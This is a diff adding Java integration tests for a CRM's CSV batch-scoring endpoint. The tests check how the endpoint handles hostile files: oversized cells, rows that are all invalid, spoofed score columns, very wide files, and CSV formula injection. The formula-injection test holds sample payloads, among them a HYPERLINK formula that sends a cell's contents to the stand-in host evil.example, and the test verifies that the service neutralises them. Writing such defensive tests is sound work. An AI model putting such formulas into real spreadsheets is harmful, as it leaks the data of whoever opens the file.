@@ -195,4 +195,100 @@ class CsvBatchScoringTests {
         HttpResponse<byte[]> refused = postForCsv("/api/batch_score", "text/csv", withBadRow.getBytes(StandardCharsets.UTF_8));
         assertThat(refused.statusCode()).isEqualTo(422);
     }
+
+    // Hostile files: what an attacker, or a careless export, sends.
+
+    @Test
+    void shouldRefuseACellOfAMillionDigitsAtOnceWithAShortAnswer() throws Exception {
+        String digits = "9".repeat(1_000_000);
+        String file = FRENCH_EXPORT.lines().findFirst().orElseThrow() + "\nX;1;" + digits + ";5;10;8;6;15;120;\n";
+        long started = System.nanoTime();
+        HttpResponse<String> answer = post("/api/batch_score", "text/csv", file.getBytes(StandardCharsets.UTF_8));
+        long took = System.nanoTime() - started;
+        assertThat(answer.statusCode()).isEqualTo(422);
+        assertThat(answer.body()).contains("line 2 holds a value longer than 65536 characters").hasSizeLessThan(1000);
+        // It took 14 s before values were bounded; the bound here is generous for a shared machine.
+        assertThat(took).isLessThan(java.time.Duration.ofSeconds(3).toNanos());
+
+        String longNumber = FRENCH_EXPORT.lines().findFirst().orElseThrow() + "\nX;1;" + "9".repeat(60_000) + ";5;10;8;6;15;120;\n";
+        HttpResponse<String> tooLong = post("/api/batch_score", "text/csv", longNumber.getBytes(StandardCharsets.UTF_8));
+        assertThat(tooLong.statusCode()).isEqualTo(422);
+        assertThat(tooLong.body()).contains("must be a number of at most 100 characters").hasSizeLessThan(1500);
+    }
+
+    @Test
+    void shouldRefuseAFileWhoseEveryRowIsSkippedRatherThanAnswerNothingScored() throws Exception {
+        String allBad = FRENCH_EXPORT.lines().findFirst().orElseThrow() + "\nA;CUST-1;abc;5;10;8;6;15;120;\nB;CUST-2;1;-5;10;8;6;15;120;\n";
+        HttpResponse<String> answer = post("/api/batch_score?invalid=skip", "text/csv", allBad.getBytes(StandardCharsets.UTF_8));
+        assertThat(answer.statusCode()).isEqualTo(422);
+        JsonNode errors = json.readTree(answer.body()).get("errors");
+        assertThat(errors).extracting(error -> error.get("line").asInt()).containsExactly(2, 3);
+        assertThat(postForCsv("/api/batch_score?invalid=skip", "text/csv", allBad.getBytes(StandardCharsets.UTF_8)).statusCode())
+                .isEqualTo(422);
+    }
+
+    @Test
+    void shouldNeutraliseFormulaCellsInTheCsvAnswerAndKeepNumbersNumbers() throws Exception {
+        String file = """
+                name;customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;emails_opened;website_visits;customer_age_days;note;balance
+                "=HYPERLINK(""http://evil.example/?x=""&A1;""clic"")";CUST-1;5;10;1 500,50;8;6;15;120;@SUM(1+1);-12,5
+                +33 6 12 34 56 78;=1+1;5;10;1500;8;6;15;120;"	cmd";-1 500,50
+                """;
+        HttpResponse<byte[]> answer = postForCsv("/api/batch_score?columns=all", "text/csv", file.getBytes(StandardCharsets.UTF_8));
+        assertThat(answer.statusCode()).isEqualTo(200);
+        List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setDelimiter(';').get()
+                .parse(new StringReader(new String(answer.body(), StandardCharsets.UTF_8).substring(1))).getRecords();
+        assertThat(rows.get(1).get(0)).isEqualTo("'=HYPERLINK(\"http://evil.example/?x=\"&A1;\"clic\")");
+        assertThat(rows.get(1).get(9)).isEqualTo("'@SUM(1+1)");
+        assertThat(rows.get(1).get(10)).isEqualTo("-12,5");
+        assertThat(rows.get(2).get(0)).isEqualTo("'+33 6 12 34 56 78");
+        assertThat(rows.get(2).get(1)).isEqualTo("'=1+1");
+        assertThat(rows.get(2).get(9)).isEqualTo("'\tcmd");
+        assertThat(rows.get(2).get(10)).isEqualTo("-1 500,50");
+        assertThat(rows).allSatisfy(row -> assertThat(row.values()).noneMatch(cell -> !cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0));
+    }
+
+    @Test
+    void shouldRenameTheFilesOwnScoreColumnsSoTheModelsAreTheOnlyScores() throws Exception {
+        String file = """
+                customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;emails_opened;website_visits;customer_age_days;score;Segment;next_action
+                1;400;0;0;0;0;0;10;100;Hot;constructor
+                """;
+        for (String language : List.of("fr", "en")) {
+            HttpResponse<byte[]> answer = postForCsv("/api/batch_score?columns=all&sort=score", "text/csv",
+                    file.getBytes(StandardCharsets.UTF_8), language);
+            List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setDelimiter(';').get()
+                    .parse(new StringReader(new String(answer.body(), StandardCharsets.UTF_8).substring(1))).getRecords();
+            String suffix = language.equals("fr") ? " (fichier)" : " (file)";
+            assertThat(rows.get(0).values()).startsWith(file.lines().findFirst().orElseThrow().replace(";score;Segment;next_action",
+                    ";score" + suffix + ";Segment" + suffix + ";next_action" + suffix).split(";"));
+            assertThat(rows.get(0).values()).containsOnlyOnce("score", "segment", "next_action");
+            int modelScore = Integer.parseInt(rows.get(1).get(List.of(rows.get(0).values()).indexOf("score")));
+            assertThat(modelScore).isLessThan(40);
+            assertThat(rows.get(1).get(8)).isEqualTo("100");
+        }
+    }
+
+    @Test
+    void shouldAnswerACallListOfAThousandColumnsInScoreOrderAsInInputOrder() throws Exception {
+        StringBuilder file = new StringBuilder(String.join(";", com.smoft.crm.csv.CustomerCsvReader.INPUT_COLUMNS));
+        for (int column = 0; column < 1000; column++) {
+            file.append(";c").append(column);
+        }
+        file.append('\n');
+        for (int row = 0; row < 200; row++) {
+            file.append(row).append(';').append(row * 3 % 400).append(";5;").append(row * 17).append(";8;").append(row % 9).append(";3;200");
+            for (int column = 0; column < 1000; column++) {
+                file.append(";v").append(row).append('-').append(column);
+            }
+            file.append('\n');
+        }
+        byte[] body = file.toString().getBytes(StandardCharsets.UTF_8);
+        List<String> inOrder = new String(postForCsv("/api/batch_score?columns=all", "text/csv", body).body(), StandardCharsets.UTF_8).lines().toList();
+        List<String> byScore = new String(postForCsv("/api/batch_score?columns=all&sort=score", "text/csv", body).body(), StandardCharsets.UTF_8).lines().toList();
+        assertThat(byScore).hasSize(201).containsExactlyInAnyOrderElementsOf(inOrder);
+        int scoreColumn = 1008;
+        List<Integer> scores = byScore.subList(1, byScore.size()).stream().map(line -> Integer.parseInt(line.split(";")[scoreColumn])).toList();
+        assertThat(scores).isSortedAccordingTo(java.util.Comparator.reverseOrder());
+    }
 }
